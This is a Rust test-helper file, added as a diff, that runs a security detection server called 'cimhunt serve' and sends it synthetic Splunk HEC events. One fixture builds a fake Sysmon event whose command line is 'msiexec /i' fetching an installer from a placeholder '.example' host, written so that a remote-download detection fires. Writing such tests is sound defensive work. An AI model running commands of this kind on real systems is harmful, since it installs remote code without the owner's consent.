@@ -1,0 +1,138 @@
+//! Shared by the `cimhunt serve` tests: the binary as a child process on a loopback port, a
+//! raw HTTP client, and events a forwarder would send.
+#![allow(dead_code)]
+
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::TcpStream;
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+use std::sync::mpsc;
+use std::time::Duration;
+
+pub const TOKEN: &str = "00000000-1111-2222-3333-444444444444";
+
+/// A running `cimhunt serve`.
+pub struct Server {
+    pub child: Child,
+    pub addr: String,
+    /// Standard error lines after the listening line.
+    pub log: mpsc::Receiver<String>,
+}
+
+/// Starts `cimhunt serve` on an ephemeral loopback port with the state directory and the
+/// extra arguments; returns once it listens.
+pub fn spawn(state: &Path, extra: &[&str]) -> Server {
+    let mut child = Command::new(env!("CARGO_BIN_EXE_cimhunt"))
+        .arg("serve")
+        .args(["--listen", "127.0.0.1:0", "--token", TOKEN])
+        .arg("--state-dir")
+        .arg(state)
+        .args(extra)
+        .env("NO_COLOR", "1")
+        .env("RUST_LOG", "info")
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("cimhunt runs");
+    let stderr = child.stderr.take().unwrap();
+    let (tx, rx) = mpsc::channel();
+    std::thread::spawn(move || {
+        for line in BufReader::new(stderr).lines() {
+            let Ok(line) = line else { break };
+            eprintln!("[serve] {line}");
+            if tx.send(line).is_err() {
+                // Keep draining so the child never blocks on a full pipe.
+            }
+        }
+    });
+    let addr = loop {
+        let line = rx
+            .recv_timeout(Duration::from_secs(120))
+            .expect("cimhunt serve starts listening");
+        if let Some(rest) = line.split("HEC listening on ").nth(1) {
+            break rest.trim().to_owned();
+        }
+    };
+    Server {
+        child,
+        addr,
+        log: rx,
+    }
+}
+
+impl Server {
+    /// SIGTERM, then the exit status.
+    pub fn terminate(mut self) -> (std::process::ExitStatus, Vec<String>) {
+        signal(&self.child, "-TERM");
+        let status = self.child.wait().unwrap();
+        let log = self.log.try_iter().collect();
+        (status, log)
+    }
+
+    /// SIGKILL.
+    pub fn kill9(mut self) {
+        signal(&self.child, "-KILL");
+        let _ = self.child.wait();
+    }
+
+    /// The child's peak resident set size in KiB (`VmHWM`), while it runs.
+    pub fn peak_rss_kib(&self) -> Option<u64> {
+        let status = std::fs::read_to_string(format!("/proc/{}/status", self.child.id())).ok()?;
+        status
+            .lines()
+            .find_map(|l| l.strip_prefix("VmHWM:"))
+            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
+    }
+}
+
+fn signal(child: &Child, sig: &str) {
+    let ok = Command::new("kill")
+        .arg(sig)
+        .arg(child.id().to_string())
+        .status()
+        .unwrap()
+        .success();
+    assert!(ok, "kill {sig}");
+}
+
+/// POSTs `body` to `path`; the status code, or `None` when the connection failed.
+pub fn post(addr: &str, path: &str, body: &str) -> Option<u16> {
+    let mut s = TcpStream::connect(addr).ok()?;
+    s.set_read_timeout(Some(Duration::from_secs(60))).ok()?;
+    let req = format!(
+        "POST {path} HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Splunk {TOKEN}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+        body.len()
+    );
+    s.write_all(req.as_bytes()).ok()?;
+    let mut resp = String::new();
+    s.read_to_string(&mut resp).ok()?;
+    resp.split_whitespace().nth(1)?.parse().ok()
+}
+
+/// A Sysmon process creation that the seed detection (Windows MSIExec Remote Download)
+/// matches, on host `host` at `secs` (epoch seconds), as XmlWinEventLog text.
+pub fn sysmon_msiexec(host: &str, secs: i64) -> String {
+    let t = jiff::Timestamp::from_second(secs).unwrap();
+    let system_time = t.strftime("%Y-%m-%dT%H:%M:%S%.9fZ").to_string();
+    let utc = t.strftime("%Y-%m-%d %H:%M:%S%.3f").to_string();
+    format!(
+        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{{5770385F-C22A-43E0-BF4C-06F5698FFBD9}}'/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime='{system_time}'/><EventRecordID>1</EventRecordID><Correlation/><Execution ProcessID='1' ThreadID='2'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>{host}</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>{utc}</Data><Data Name='ProcessGuid'>{{11111111-2222-3333-4444-000000000001}}</Data><Data Name='ProcessId'>100</Data><Data Name='Image'>C:\\Windows\\System32\\msiexec.exe</Data><Data Name='OriginalFileName'>msiexec.exe</Data><Data Name='CommandLine'>msiexec /i http://{host}.example/a.msi</Data><Data Name='CurrentDirectory'>C:\\Windows\\Temp\\</Data><Data Name='User'>CORP\\ana</Data><Data Name='IntegrityLevel'>Medium</Data><Data Name='Hashes'>SHA256=00</Data><Data Name='ParentProcessGuid'>{{11111111-2222-3333-4444-999999999999}}</Data><Data Name='ParentProcessId'>10</Data><Data Name='ParentImage'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='ParentCommandLine'>cmd.exe /c run</Data></EventData></Event>"
+    )
+}
+
+/// A HEC envelope for an XmlWinEventLog event, as a Universal Forwarder-like shipper writes it.
+pub fn xml_envelope(host: &str, secs: i64, xml: &str) -> String {
+    format!(
+        r#"{{"time":{secs},"host":"{host}","source":"XmlWinEventLog:Microsoft-Windows-Sysmon/Operational","sourcetype":"XmlWinEventLog","index":"main","event":{}}}"#,
+        serde_json::Value::String(xml.to_owned())
+    )
+}
+
+/// Lines of a JSON-lines file, parsed.
+pub fn json_lines(path: &Path) -> Vec<serde_json::Value> {
+    std::fs::read_to_string(path)
+        .unwrap_or_default()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
